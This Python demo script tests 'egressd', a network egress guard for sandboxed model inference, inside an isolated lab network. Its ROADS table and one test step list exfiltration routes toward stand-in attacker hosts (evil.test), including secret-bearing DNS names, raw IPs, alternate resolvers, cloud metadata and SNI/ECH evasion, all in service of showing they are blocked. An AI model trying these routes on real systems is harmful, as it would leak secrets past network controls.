"""A guarded inference, told in a minute: what works, what does not, and the numbers that prove it; then a
request of somebody who may not read everything (request.py).

Everything runs in network namespaces of its own, against a little internet that exists only there
(tests/lab/topology.py has the map); the machine's network is not touched. Every check mark is worked out from
what really happened, and the exit status is 0 only if all of them are.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shlex
import signal
import sys
import time
from dataclasses import dataclass, field
from ipaddress import ip_address
from pathlib import Path
from typing import Any

PROJECT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(PROJECT / "tests"))

import request  # noqa: E402 - the scene of that name, beside this file
from egressd.model.errors import EgressdError  # noqa: E402
from lab import topology  # noqa: E402
from lab.capture import Capture  # noqa: E402
from lab.daemon import Daemon  # noqa: E402
from lab.internet import Internet, start_internet  # noqa: E402
from lab.machine import VENV, Lab, LabError, Process, Result, closed_to_others, poll  # noqa: E402

CLIENTS = PROJECT / "demo" / "clients"
MARKER = "sk-secret-4711"  # what the captured program tries to get out; see clients/get_out.py
PROBE = 9  # the discard port, to which the capture sends what it waits for
AT_ONCE = 50.0  # milliseconds within which a denial must be told
SHORT = 60  # letters of a command line that are shown
WORDS = 58  # letters of a record's line before its words
REFUSED = 125  # egressctl's exit status where nothing ran
QUIET = 0.3  # seconds without a frame after which the uplink is taken to be still

LISTED, SEARCHED = "eu.api.openai.test", "*.search.test"  # hosts of the policy, see tests/lab/daemon.py
NEIGHBOUR = "api.openai.test"  # the same server, and not on the list
GRANTED = ("oslo.search.test", "rome.search.test", "lima.search.test")  # as many as the policy's budget
ONE_TOO_MANY = "cairo.search.test"

# Of the part about residency: two hosts, and the places that a list gives their addresses
HERE, THERE = "eu.models.test", "us.models.test"
HERE_AT, THERE_AT = ("11.22.33.193", "2a10:5353::c1"), ("11.22.33.209", "2a10:5353::d1")
PREFIXES = """\
11.22.33.192/28    DE    # as their provider publishes them
2a10:5353::c0/124  DE
11.22.33.208/28    US
2a10:5353::d0/124  US
"""
PINNED = """\
workspace: acme
guard: enforce
{members:<34}# as before
residency: {{jurisdictions: [EU]}}  # contract 4711: in the EU, or not at all
providers:
  frankfurt: {{type: openai-compatible, base_url: "https://eu.models.test/v1"}}
  virginia:
    type: openai-compatible
    base_url: https://us.models.test/v1
    residency: {{region: us-1, jurisdiction: US, source_url: "https://models.test/regions"}}
routes:
  default: {{providers: [virginia, frankfurt]}}
  overflow: {{provider: virginia}}  # nobody in the EU behind this one
allow:
  - provider: frankfurt
  - provider: virginia
  - local: ollama
"""

# What the captured program tries: (kind, target, port, what that is)
ROADS = (
    ("name", f"{MARKER}.evil.test", 443, "a name that holds the secret"),
    ("tcp", "evil.test", 443, "a host that is not listed"),
    ("tcp", topology.EVIL4, 443, "its raw address"),
    ("tcp", topology.EVIL6, 443, "the same over IPv6"),
    ("tcp", topology.OPENAI4, 443, "an allowed host's raw address"),
    ("tcp", LISTED, 22, "an allowed host, another port"),
    ("tls", LISTED, 443, "TLS there, for evil.test"),
    ("anon", LISTED, 443, "the same, for no name at all"),
    ("ech", LISTED, 443, "the same, with a hidden name"),
    ("tcp", LISTED, 443, "plain HTTP on the TLS port"),
    ("dns", topology.OTHER_DNS4, 53, "another resolver"),
    ("tcp", topology.OTHER_DNS4, 53, "the same over TCP"),
    ("dns", topology.OTHER_DNS6, 53, "the same over IPv6"),
    ("udp", topology.EVIL4, 443, "UDP, as QUIC would"),
    ("tcp", topology.METADATA4, 80, "cloud metadata"),
    ("tcp", topology.METADATA6, 80, "the same over IPv6"),
    ("tcp", "127.0.0.1", 9999, "the host's loopback"),
    ("tcp", topology.HOST4, 9998, "the host's own address"),
    ("tcp", topology.HOST6, 9997, "the same over IPv6"),
)
AT_THE_RESOLVER = 2  # of these roads: the names end there
AT_THE_INSPECTOR = {"sni-other": 1, "sni-missing": 1, "ech": 1, "not-tls": 1}
INSIDE = 1  # of these roads: 127.0.0.1 is the sandbox's own, and nobody listens there
# The rest is refused by the kernel, one packet each; "another port" is tried in both families.
REFUSED_PACKETS = len(ROADS) - AT_THE_RESOLVER - sum(AT_THE_INSPECTOR.values()) - INSIDE + 1


@dataclass
class Story:
    """What the reader sees, and whether it went as told."""

    colour: bool
    held: int = 0
    failed: list[str] = field(default_factory=list)
    _step: int = 0

    def _paint(self, code: str, text: str) -> str:
        return f"\033[{code}m{text}\033[0m" if self.colour else text

    def step(self, title: str) -> None:
        self._step += 1
        print(f"\n{self._paint('1', f'{self._step}. {title}')}")

    def say(self, text: str) -> None:
        print("\n".join(f"   {line}" for line in text.strip("\n").splitlines()), flush=True)

    def show(self, text: str) -> None:
        """Something real: a file or a command's output."""
        print(
            "\n".join(f"   {self._paint('36', '|')} {line}".rstrip() for line in text.rstrip().splitlines()),
            flush=True,
        )

    def command(self, text: str) -> None:
        self.say(self._paint("33", f"$ {text}"))

    def expect(self, *, held: bool, text: str) -> None:
        mark = self._paint("32", "✓") if held else self._paint("31", "✗")
        if held:
            self.held += 1
        else:
            self.failed.append(text)
        print(f"   {mark} {text}", flush=True)


@dataclass(frozen=True)
class Stage:
    """The lab with everything running in it."""

    story: Story
    lab: Lab
    internet: Internet
    host: Internet
    uplink: Capture
    daemon: Daemon

    def box(self, program: str, *words: str, receipt: str | None = None) -> Result:
        """Run one of the clients in a sandbox, showing the command and what it said."""
        argv = [str(VENV / "bin" / "python"), "-B", str(CLIENTS / program), *words]
        shown = shlex.join(words)
        return self.run(
            argv, shown=f"python {program} {shown if len(shown) < SHORT else '…'}", receipt=receipt
        )

    def run(
        self, argv: list[str], *, shown: str, receipt: str | None = None, only: tuple[str, ...] = ("",)
    ) -> Result:
        """Run a command in a sandbox, showing it and what it said: the lines that hold one of `only`."""
        extra = f"--receipt {receipt} " if receipt else ""
        self.story.command(f"egressctl run -w acme {extra}-- {shown}")
        result = self.daemon.sandbox("acme", argv, *self._options(receipt), timeout=60)
        lines = (result.out + result.err).splitlines()
        self.story.show("\n".join(line for line in lines if any(word in line for word in only)))
        return result

    def start(self, program: str, *words: str) -> Process:
        """Run one of the clients in a sandbox, and go on."""
        self.story.command(f"egressctl run -w acme -- python {program} {shlex.join(words)} &")
        argv = [str(VENV / "bin" / "python"), "-B", str(CLIENTS / program), *words]
        return self.daemon.start_sandbox("acme", argv, *self._options(None))

    def _options(self, receipt: str | None) -> list[str]:
        options = ["--receipt", self.paper(receipt)] if receipt else []
        return [
            *options,
            "--bind-ro", str(VENV), "--bind-ro", str(CLIENTS), "--bind-ro", self.lab.inside("trust"),
            "--env", f"SSL_CERT_FILE={self.lab.inside('trust/ca.pem')}",
        ]  # fmt: skip

    def paper(self, name: str) -> str:
        """Where evidence is put, as it is called in the lab: a directory of the lab's unprivileged user."""
        return self.lab.inside(f"evidence/{name}")

    def verify(self, name: str, *words: str) -> Result:
        """As anybody, without network, daemon or root: the file and the public key are all there is."""
        argv = [
            "unshare", "--user", "--net", str(VENV / "bin" / "egressctl"), "--run-dir", "/nowhere", "--json",
            "verify", self.paper(name), "--key", self.paper("egressd.pem"), *words,
        ]  # fmt: skip
        return self.lab.run(argv, uid=self.lab.user)

    def quiet(self) -> int:
        """Wait until what ended before has sent its last; the number of frames so far."""
        while True:
            before = self.uplink.settle()
            time.sleep(QUIET)
            if not self.uplink.frames(since=before):
                return self.uplink.settle()

    @property
    def policy(self) -> str:
        """The policy's file, as it is now."""
        return self.lab.path(f"{self.daemon.directory}/workspaces/acme.yaml").read_text()

    def ctl(self, *words: str, lines: int | None = None, uid: int | None = -1) -> Result:
        """Show a command and what it said: its first `lines`. As a member, or as `uid`."""
        self.story.command(f"egressctl {shlex.join(words)}" + (f" | head -{lines}" if lines else ""))
        result = self.daemon.ctl(*words, uid=self.lab.user if uid == -1 else uid)
        self.story.show("\n".join((result.out + result.err).splitlines()[:lines]))
        return result

    def why(self, name: str, text: str) -> bool:
        return text in self.daemon.ctl("why", "-w", "acme", name).out

    def heard(self, port: int) -> set[str]:
        """The names that servers of the internet were asked for on that port."""
        return {entry.name for entry in self.internet.seen(port=port)}


def two_names(story: Story, lab: Lab, internet: Internet) -> None:
    """Before anything is guarded: the address of the listed host is a stranger's as well."""
    story.say("Two names live at one address there, as behind any CDN. From that machine, not yet guarded:")
    pages = []
    for name in (LISTED, NEIGHBOUR):
        story.command(f"curl https://{name}/")
        result = lab.run(["curl", "-sS", "--cacert", lab.inside("trust/ca.pem"), f"https://{name}/"])
        story.show(result.out + result.err)
        pages.append(result.out.split(" at "))
    held = [page[0] for page in pages] == [LISTED, NEIGHBOUR] and pages[0][1:] == pages[1][1:] != []
    story.expect(held=held, text="one server at one address, and it serves whichever name is asked for")
    internet.forget()


def allowed(stage: Stage) -> None:
    story = stage.story
    story.step("What the policy lists works, with unmodified programs")
    story.say("The openai SDK, against an HTTPS endpoint on the list:")
    words = "https://eu.api.openai.test/v1", "hello, far model"
    result = stage.box("ask_openai.py", *words, receipt="inference.proof")
    story.expect(
        held=_said(result, "hello, far model"),
        text="the model answered; TLS is end to end, egressd has read the name",
    )
    story.say("\nThe ollama SDK, against 127.0.0.1:11434, which is the host's own Ollama (`local: ollama`):")
    result = stage.box("ask_ollama.py", "hello, local model")
    story.expect(held=_said(result, "hello, local model"), text="the local model answered")


def _said(result: Result, text: str) -> bool:
    return result.status == 0 and result.out.strip() == f"You said: {text}"


def denied(stage: Stage) -> None:
    story = stage.story
    story.step("The same program against a host that is not on the list")
    result = stage.box("ask_openai.py", "https://exfiltrate.evil.test/v1", MARKER)
    told = re.search(r"APIConnectionError after ([0-9.]+) ms", result.err)
    spent = float(told[1]) if told else float("inf")
    text = f"refused after {spent:.0f} ms, as an error the program can handle, not a time-out"
    story.expect(held=result.status != 0 and spent < 10 * AT_ONCE, text=text)


def neighbour(stage: Stage) -> None:
    story = stage.story
    story.step(f"The allowed address, asked for another name: {NEIGHBOUR}")
    story.say("curl connects to the listed host, and asks it in TLS for the name that is not listed:")
    began = stage.quiet()
    words = ["--connect-to", f"::{LISTED}:", f"https://{NEIGHBOUR}/"]
    result = stage.run(["curl", "-sS", *words], shown=shlex.join(["curl", *words]))
    story.expect(held=result.status == 35, text="reset: egressd reads the name before it sends anything on")
    frames = len(stage.uplink.frames(since=began))
    story.expect(held=frames == 0, text=f"frames on the uplink meanwhile: {frames}")


def wildcard(stage: Stage) -> None:
    story = stage.story
    story.step(f"Names that nobody wrote down: {SEARCHED}, and a budget for them")
    result = stage.box("look_around.py", *GRANTED, ONE_TOO_MANY)
    *reached, last = result.out.splitlines() or [""]
    served = [line.split()[0] for line in reached if re.search(r" ms  (\S+) at ", line)]
    story.expect(
        held=served == list(GRANTED), text="three names looked up, admitted and reached at first sight"
    )
    asked = {name for name in stage.heard(53) if name.endswith(SEARCHED[1:])}
    story.expect(
        held=ONE_TOO_MANY in last and "not known" in last and asked == set(GRANTED),
        text="the fourth is one more than `names: 3`: refused, and never asked upstream",
    )


def captured(stage: Stage) -> None:
    story = stage.story
    story.step("A captured program tries every other road, with a secret in its hands")
    began = stage.quiet()
    result = stage.box(
        "get_out.py", *(f"{kind},{target},{port},{what}" for kind, target, port, what in ROADS)
    )
    lines = result.out.splitlines()
    times = [float(found[1]) for line in lines if (found := re.search(r"([0-9.]+) ms ", line))]
    story.expect(
        held=result.status == 0 and len(lines) == len(ROADS), text=f"{len(ROADS)} roads tried, none led out"
    )
    slowest = max(times, default=float("inf"))
    story.expect(
        held=len(times) == len(ROADS) and slowest < AT_ONCE,
        text=f"each told at once: the slowest {slowest:.1f} ms",
    )
    frames = len(stage.uplink.frames(since=began))
    story.expect(held=frames == 0, text=f"frames on the uplink meanwhile: {frames}")


def counted(stage: Stage) -> None:
    story, daemon = stage.story, stage.daemon
    story.step("The counters say the same")
    result = daemon.ctl("counters", "acme", uid=None)
    width = result.out.partition("  connections")[0].rpartition("\n")[2]  # the columns that fit a page
    story.command(f"egressctl counters acme | cut -c -{len(width)}")
    story.show("\n".join(line[: len(width)] for line in result.out.splitlines()) + result.err)
    story.expect(
        held=result.status == 0, text="the books balance: in = admitted + denied + other, to the byte"
    )
    account = daemon.counters("acme")
    hosts = {row["host"]: row["connections"] for row in account["hosts"]}
    story.expect(
        held=[hosts.get(name) for name in GRANTED] == [1, 1, 1] and ONE_TOO_MANY not in hosts,
        text="each name of the wildcard has a row of its own, with one connection",
    )
    wanted = AT_THE_INSPECTOR | {"sni-other": AT_THE_INSPECTOR["sni-other"] + 1}
    counted = {reason: count for reason, count in account["flows_refused"].items() if count}
    story.expect(
        held=counted == wanted,
        text=f"{sum(counted.values())} connections refused by the inspector: curl's, and {len(wanted)} roads",
    )
    refused = account["denied"]["unlisted"][0]
    story.say(
        f"Of the {len(ROADS)} roads {AT_THE_RESOLVER} ended at egressd's resolver, which knows no unlisted"
        f" name,\n{len(wanted)} at its inspector, and {INSIDE} at the sandbox's own loopback. Each of the"
        " others is a packet\nthat the kernel refused; one of them tried both IPv4 and IPv6:"
    )
    story.expect(held=refused == REFUSED_PACKETS, text=f"{refused} packets refused, none uncounted")
    story.command("egressctl why -w acme evil.test")
    result = daemon.ctl("why", "-w", "acme", "evil.test")
    story.show(result.out + result.err)
    story.expect(held="evil.test: denied in" in result.out, text="and a denial has its reason")


def proved(stage: Stage) -> None:
    story, daemon = stage.story, stage.daemon
    story.step("The same as evidence: one signed file, for somebody who was not there")
    story.command("egressctl key show --pem > egressd.pem; egressctl proof -w acme -o acme.proof")
    stage.lab.path("evidence/egressd.pem").write_text(daemon.ctl("key", "show", "--pem").check().out)
    daemon.ctl("proof", "-w", "acme", "-o", stage.paper("acme.proof"), uid=stage.lab.user).check()
    story.say("Elsewhere: another user, no network, no egressd, only the file and the public key.")
    story.command("unshare --user --net egressctl verify acme.proof --key egressd.pem")
    result = stage.verify("acme.proof")
    found = json.loads(result.out)
    story.show("\n".join(f"{check['verdict']}  {check['text']}" for check in found["checks"] if _told(check)))
    held = result.status == 0 and found["verified"] and found["pinned"]
    story.expect(held=held, text=f"verified: {len(found['checks'])} checks, none of which asked anybody")
    told, exact = _told_by_proof(found), _told_by_counters(daemon.counters("acme"))
    story.expect(
        held=told == exact, text=f"its {len(told)} rows are the kernel's counters, each packet and byte"
    )
    _changed(stage)
    _receipt(stage)


def _told(check: dict[str, str]) -> bool:
    return check["name"] in ("inclusion", "books", "losses")


def _told_by_proof(found: dict[str, Any]) -> dict[str, tuple[int, ...]]:
    """What it says left for each host and came back, and what was refused for each reason."""
    summary = found["statement"]["summary"]
    counts = {host["host"]: host["counted"] for host in summary["hosts"]}
    names = ("out_packets", "out_bytes", "in_packets", "in_bytes", "connections")
    told = {host: tuple(counted[name] for name in names) for host, counted in counts.items()}
    told |= {f"[{row['reason']}]": (row["packets"], row["bytes"]) for row in summary["denied"]}
    return {name: numbers for name, numbers in told.items() if any(numbers)}


def _told_by_counters(account: dict[str, Any]) -> dict[str, tuple[int, ...]]:
    """The same from `egressctl counters`."""
    told: dict[str, tuple[int, ...]] = {
        row["host"]: (*row["out"], *row["in"], row["connections"]) for row in account["hosts"]
    }
    told |= {f"[{reason}]": tuple(count) for reason, count in account["denied"].items()}
    return {name: numbers for name, numbers in told.items() if any(numbers)}


def _changed(stage: Stage) -> None:
    """One byte of the file is one digit of an address in it: where a packet was refused to."""
    story, file = stage.story, stage.lab.path("evidence/acme.proof")
    envelope = json.loads(file.read_bytes())
    payload = base64.b64decode(envelope["payload"])
    now = payload.replace(f'\\"destination\\":\\"{topology.EVIL4}'.encode(), _other_evil(), 1)
    envelope["payload"] = base64.b64encode(now).decode()
    text = json.dumps(envelope, sort_keys=True, separators=(",", ":")) + "\n"
    bytes_changed = sum(a != b for a, b in zip(file.read_text(), text, strict=True))
    stage.lab.path("evidence/changed.proof").write_text(text)
    story.command("egressctl verify changed.proof --key egressd.pem     # one byte of it was changed")
    result = stage.verify("changed.proof")
    checks = json.loads(result.out)["checks"]
    broken = {check["name"]: check["text"] for check in checks if check["verdict"] == "broken"}
    named = [broken.get(name, "") for name in ("signature", "inclusion")]
    story.show("\n".join(f"broken  {text}" for text in named))
    held = bytes_changed == 1 and result.status == 1 and all(named)
    story.expect(held=held, text="noticed, and the record is named")


def _other_evil() -> bytes:
    return f'\\"destination\\":\\"{str(topology.EVIL4)[:-1]}7'.encode()


def _receipt(stage: Stage) -> None:
    """Of the first inference above, as it was written when that ended."""
    story = stage.story
    story.command("egressctl verify inference.proof --key egressd.pem   # from `run --receipt`, in step 3")
    result = stage.verify("inference.proof")
    found = json.loads(result.out)
    (box,) = found["statement"]["summary"]["sandboxes"]
    flows = {flow["host"] for flow in found["statement"]["summary"]["flows"]}
    totals = box["totals"]
    story.show(
        f"{box['link']}: in {totals['in_bytes']} = admitted {totals['ok_bytes']}"
        f" + denied {totals['denied_bytes']} + other {totals['other_bytes']} bytes; exit {box['exit']};"
        f" talked to {', '.join(sorted(flows))}"
    )
    story.expect(
        held=result.status == 0 and flows == {LISTED} and totals["denied_packets"] == 0,
        text="that inference alone: one host, nothing refused, and its bytes add up",
    )


def survived(stage: Stage) -> None:
    story, daemon = stage.story, stage.daemon
    story.step("Everybody who decides is killed, in the middle of it")
    talking = stage.start("keep_talking.py", LISTED)
    poll(lambda: "connected" in talking.out, timeout=10, what="it talks")
    before = daemon.pids()
    killed = {name: before[name] for name in ("controller", "warden", "resolver", "auditor", "custodian")}
    story.command(f"kill -9 {' '.join(map(str, killed.values()))}    # {', '.join(killed)}")
    began = time.monotonic()
    for pid in killed.values():
        stage.lab.signal(pid, signal.SIGKILL)
    far = stage.box("get_out.py", f"tcp,{topology.EVIL4},443,its raw address")
    poll(lambda: _all_back(daemon, killed), timeout=20, what="egressd is back")
    story.say(
        f"All are back after {time.monotonic() - began:.1f} s. What asked to run meanwhile: {_brief(far)}."
    )
    time.sleep(QUIET)
    talking.signal(signal.SIGTERM)
    talking.wait(10)
    story.command("fg")
    story.show(talking.out + talking.err)
    story.expect(held="none was missing" in talking.out, text="the program has noticed nothing")
    records = stage.ctl("audit", "-w", "acme", "--event", "sandbox-resumed", "-n", "1", uid=None).out
    story.expect(held=bool(records.strip()), text="it has its lease back, and that is on record")
    balanced = daemon.ctl("counters", "acme", uid=None).status == 0
    story.expect(held=balanced, text="and the books still balance, to the byte")
    story.say("Before you believe any of this: the same installation attacks itself.")
    told = daemon.ctl("selftest", "-w", "acme", uid=stage.lab.user)
    story.command("egressctl selftest -w acme | tail -2")
    story.show("\n".join((told.out + told.err).splitlines()[-2:]))
    story.expect(held=told.status == 0 and " 0 escaped" in told.out, text="no way out")


def _all_back(daemon: Daemon, killed: dict[str, int]) -> bool:
    """Others than those who were killed, all running; asked without starting a program."""
    pids = daemon.pids()
    if any(pids.get(name, pid) == pid for name, pid in killed.items()):
        return False
    try:
        return {state["state"] for state in daemon.ask("status")["processes"]} == {"running"}
    except (EgressdError, OSError):
        return False


def _brief(result: Result) -> str:
    return "refused, try again" if result.status == REFUSED else "ran, with every denial in force"


def pinned(stage: Stage) -> None:
    story, daemon = stage.story, stage.daemon
    story.step("Only in the EU: residency, routes and switches")
    daemon.write_policy("acme", PINNED.format(members=f"members: [user:{stage.lab.user}]"))
    before = stage.policy
    story.command("cat workspaces/acme.yaml; egressctl policy apply | tail -1")
    stage.internet.set(HERE, at(HERE_AT))
    told = daemon.ctl("policy", "apply").check()
    story.show(before + told.out.splitlines()[-1])
    stage.lab.path("prefixes.txt").write_text(PREFIXES)
    story.command("cat prefixes.txt; egressctl residency import prefixes.txt --provider models | head -1")
    told = daemon.ctl("residency", "import", stage.lab.inside("prefixes.txt"), "--provider", "models")
    story.show(PREFIXES + (told.out.partition("\n")[0] + told.err))
    told.check()
    poll(lambda: stage.why(HERE, "11.22.33.192/28"), what=f"{HERE} is placed")
    page = stage.run(["curl", "-sS", f"https://{HERE}/"], shown=f"curl https://{HERE}/")
    story.expect(held=_fetched(page), text="a host whose addresses are published for the EU is reached")
    _routed(stage)
    _switched(stage, before)
    _moved_out(stage)


def _fetched(result: Result) -> bool:
    """A page of the host in the EU, from where that is."""
    return result.status == 0 and result.out.strip() in [f"{HERE} at {address}" for address in HERE_AT]


def _routed(stage: Stage) -> None:
    story = stage.story
    selected, refused = (
        stage.ctl("route", "-w", "acme", "default"),
        stage.ctl("route", "-w", "acme", "overflow"),
    )
    story.expect(
        held=selected.status == 0
        and selected.out.startswith(f"frankfurt https://{HERE}/v1\n")
        and all(f"address: {address} in " in selected.out for address in HERE_AT),
        text="the first that complies is named, with its evidence",
    )
    story.expect(
        held=refused.status == 1 and not refused.out and "us-1" in refused.err,
        text="and where none does, none: blocked, never a fallback",
    )


def _switched(stage: Stage, before: str) -> None:
    story = stage.story
    story.say("A program talks to that host, over one connection, and somebody turns external routing off:")
    talking = stage.start("keep_talking.py", HERE)
    poll(lambda: "connected" in talking.out, timeout=10, what="it talks")
    told = stage.ctl("local-only", "acme", "on", lines=1, uid=None)
    applied = time.monotonic()
    poll(lambda: " answers" in talking.out or talking.status() is not None, what="it is cut")
    spent = (time.monotonic() - applied) * 1000
    talking.wait(10)
    story.command("fg")
    story.show(talking.out + talking.err)
    story.expect(
        held=told.status == 0 and "then the connection broke" in talking.out and spent < 10 * AT_ONCE,
        text="cut in the middle of it, at once",
    )
    far = stage.run(["curl", "-sS", f"https://{HERE}/"], shown=f"curl https://{HERE}/")
    near = stage.run(["curl", "-sS", "http://localhost:11434/"], shown="curl http://localhost:11434/")
    story.expect(
        held=far.status == 6 and near.status == 0, text="what is far is out of reach, what is local is not"
    )
    told = stage.ctl("local-only", "acme", "off", lines=1, uid=None)
    poll(lambda: stage.why(HERE, "11.22.33.192/28"), what=f"{HERE} is placed again")
    far = stage.run(["curl", "-sS", f"https://{HERE}/"], shown=f"curl https://{HERE}/")
    story.expect(held=_fetched(far), text="and back")
    lines = stage.policy.splitlines()
    story.expect(
        held=[line for line in lines if line != "local_only: false"] == before.splitlines(),
        text="the file says `local_only: false` now, and is otherwise as it was, comments and all",
    )


def _moved_out(stage: Stage) -> None:
    story = stage.story
    story.say(f"The DNS record of {HERE} changes, to {THERE_AT[0]} and {THERE_AT[1]}:")
    began = stage.quiet()
    stage.internet.set(HERE, at(THERE_AT))
    poll(lambda: stage.why(HERE, "US is not in EU"), timeout=15, what="the new record is seen")
    words = ["dig", "+nocookie", HERE]
    shown = f"{shlex.join(words)} | grep -e status: -e EDE:"
    result = stage.run(words, shown=shown, only=("status:", "EDE:"))
    said = f"{THERE_AT[0]} is in 11.22.33.208/28"
    story.expect(
        held="NXDOMAIN" in result.out and "(Blocked)" in result.out and said in result.out,
        text="DNS answers Blocked, with the reason",
    )
    for address in THERE_AT:
        shown = f"[{address}]" if ":" in address else address
        stage.run(["curl", "-sS", "-m", "5", f"http://{shown}/"], shown=f"curl http://{shown}/")
    stage.quiet()
    outside = {ip_address(address) for address in THERE_AT}
    frames = [frame for frame in stage.uplink.frames(since=began) if frame.destination in outside]
    story.expect(held=not frames, text=f"frames on the uplink to those addresses: {len(frames)}")
    asked = ("audit", "--event", "residency-refused", "-n", "2")
    story.command(f"egressctl {shlex.join(asked)} | cut -c {WORDS + 1}-")
    told = stage.daemon.ctl(*asked, uid=None).out.splitlines()
    story.show("\n".join(line[WORDS:] for line in told))
    records = [json.loads(line)["fields"] for line in stage.daemon.ctl("--json", *asked).out.splitlines()]
    found = {(one["host"], one["address"], one["code"], one["table"]) for one in records}
    story.expect(
        held=found == {(HERE, address, "outside", "models") for address in THERE_AT},
        text="and the journal says which address, which prefix, and whose list says so",
    )


def at(addresses: tuple[str, str]) -> topology.Records:
    """A second's TTL: what changes is seen with the next refresh, some seconds later."""
    return topology.Records({"A": [addresses[0]], "AAAA": [addresses[1]]}, ttl=1)


def verdict(stage: Stage) -> None:
    story, uplink = stage.story, stage.uplink
    story.step("The judge: every frame that crossed the uplink, captured")
    zone = topology.zone()
    hosts = {text for name in (LISTED, SEARCHED) for texts in zone[name].types.values() for text in texts}
    hosts |= {*HERE_AT}
    permitted = {ip_address(text) for text in hosts} | {topology.DNS4, topology.DNS6}
    sent = uplink.frames(outgoing=True)
    strays = [frame for frame in sent if frame.destination not in permitted]
    foreign = [frame for frame in sent if frame.source not in (topology.HOST4, topology.HOST6)]
    for frame in (strays + foreign)[:5]:
        story.show(str(frame))
    story.expect(
        held=bool(sent) and not strays,
        text=f"{len(sent)} frames left, all to the allowed hosts and egressd's resolver",
    )
    story.expect(held=not foreign, text="none under a sandbox's or a synthetic address")
    story.expect(held=not uplink.holding(MARKER.encode()), text="the secret is in none of them")
    names = {LISTED, HERE, *GRANTED}
    story.expect(
        held=stage.heard(443) == stage.heard(53) == names,
        text=f"all servers together were asked for {LISTED}, {HERE}, the three names, no other",
    )
    elsewhere = [
        entry
        for entry in stage.internet.seen()
        if entry.port != PROBE and ip_address(entry.address) not in permitted
    ]
    story.expect(held=not elsewhere, text="no other server of the internet heard anything")
    secrets = [entry for entry in stage.host.seen() if entry.port in topology.SECRET_PORTS]
    story.expect(held=not secrets, text="no other service of the host heard anything")


def main() -> int:
    story = Story(colour=sys.stdout.isatty() and "NO_COLOR" not in os.environ)
    print(
        "egressd: a sandboxed inference reaches the hosts its workspace lists, and no other.\n"
        "What stands behind | is real output, and every check mark is worked out from what happened."
    )
    began = time.monotonic()
    with Lab() as lab:
        story.step("A machine, its uplink and a little internet, in namespaces of their own")
        internet, host = start_internet(lab)
        lab.path("trust").mkdir()
        lab.path("evidence").mkdir()
        lab.path("evidence").chmod(0o1777)
        lab.path("trust/ca.pem").write_bytes(internet.root)
        story.say(
            f"Up in {time.monotonic() - began:.1f} s. The real network is not touched; root is not needed."
        )
        two_names(story, lab, internet)
        story.step("egressd starts, with one workspace")
        with Capture(lab) as uplink, Daemon(lab, brokers=request.brokers(lab)) as daemon:
            story.command("egressd --config egressd.yaml &")
            story.command("cat workspaces/acme.yaml")
            story.show(lab.path(f"{daemon.directory}/workspaces/acme.yaml").read_text())
            stage = Stage(story, lab, internet, host, uplink, daemon)
            on_the_network = (
                allowed,
                denied,
                neighbour,
                wildcard,
                captured,
                counted,
                proved,
                survived,
                pinned,
            )
            for part in (*on_the_network, request.requested, verdict):
                part(stage)
    story.step("Everything is gone again")
    story.say(
        f"{story.held} of {story.held + len(story.failed)} checks held, in {time.monotonic() - began:.0f} s."
        " Try it by hand: make lab. Where to go next: README.md"
    )
    for text in story.failed:
        print(f"FAILED: {text}", file=sys.stderr)
    return 1 if story.failed else 0


if __name__ == "__main__":
    if (closed := closed_to_others(VENV)) is not None and os.geteuid() == 0:
        sys.exit(
            f"demo: other users may not enter {closed}, so sandboxes, which an unprivileged user runs,\n"
            f"could not start Python from {VENV}. Put the checkout elsewhere, or: chmod o+x {closed}"
        )
    try:
        sys.exit(main())
    except LabError as error:
        sys.exit(f"demo: {error}")
